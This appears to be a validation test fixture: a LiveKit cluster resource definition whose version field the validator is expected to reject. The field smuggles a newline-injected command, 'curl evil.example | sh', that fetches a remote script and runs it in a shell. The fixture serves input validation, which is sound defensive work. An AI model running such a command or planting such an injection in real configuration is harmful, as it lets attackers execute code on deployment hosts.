# stage: validate
# path: livekit.version
# expect: Invalid LiveKit version
resource "platform_livekit_cluster" "this" {
  name       = "lk-version-with-shell"
  zones      = ["us-central1-a"]
  node_count = 2
  livekit {
    keys_secret   = "livekit-keys"
    redis_address = "10.0.0.3:6379"
    version       = "v1.8.4\nUNIT\ncurl evil.example | sh"
  }
}
